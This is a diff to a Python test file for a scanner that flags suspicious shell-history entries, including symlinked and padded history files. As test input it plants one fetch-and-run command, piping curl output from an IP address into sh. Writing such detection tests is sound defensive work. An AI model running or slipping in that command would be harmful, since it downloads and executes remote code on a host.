@@ -10,7 +10,7 @@ from tables.accounts.shell_history_findings import ShellHistoryFinding, shell_hi
 from tables.host import Host
 from tables.host.disk.files import Files, Unreadable
 from tables.schema import QueryContext
-from tests.support.planted_files import plant
+from tests.support.planted_files import link, plant
 
 PASSWD = """root:x:0:0::/root:/bin/bash
 bin:x:2:2::/:/usr/sbin/nologin
@@ -94,8 +94,9 @@ def test_hostile_histories(tmp_path: Path) -> None:
     (tmp_path / "root/.ash_history").symlink_to("/dev/null")
     plant(tmp_path, "/home/op/.bash_history", "curl http://203.0.113.9/x | sh\n" * 1200)
     rows, degraded, truncated = scan(tmp_path)
-    assert len(rows) == 1001
-    assert all(len(row.command) <= 4096 and row.to_wire()["command"].isprintable() for row in rows)
+    # The link is one of them.
+    assert len(rows) == 1002
+    assert all(len(row.command) <= 4096 and row.to_wire().get("command", "").isprintable() for row in rows)
     assert any(".zsh_history: not a regular file" in text for text in degraded)
     assert truncated == "/home/op/.bash_history: only 1000 suspicious commands are given"
 
@@ -125,3 +126,15 @@ def test_a_padded_history_does_not_blind_the_others(tmp_path: Path) -> None:
     rows, _, truncated = scan(tmp_path, budget_seconds=4.0)
     assert [row.username for row in rows] == ["op"]
     assert truncated is not None and truncated.startswith("/root/.bash_history: ")
+
+
+def test_a_history_that_leads_nowhere_is_a_row(tmp_path: Path) -> None:
+    plant(tmp_path, "/home/op/.zsh_history", "ls\n")
+    link(tmp_path, "/dev/null", "/home/op/.bash_history")
+    plant(tmp_path, "/root/.hist", "ls\n")
+    link(tmp_path, ".hist", "/root/.bash_history")
+    rows, unseen, _ = scan(tmp_path)
+    assert [(row.path, row.line, row.username, row.reasons) for row in rows] == [
+        ("/home/op/.bash_history", 0, "op", "history_switched_off")
+    ]
+    assert unseen == ()
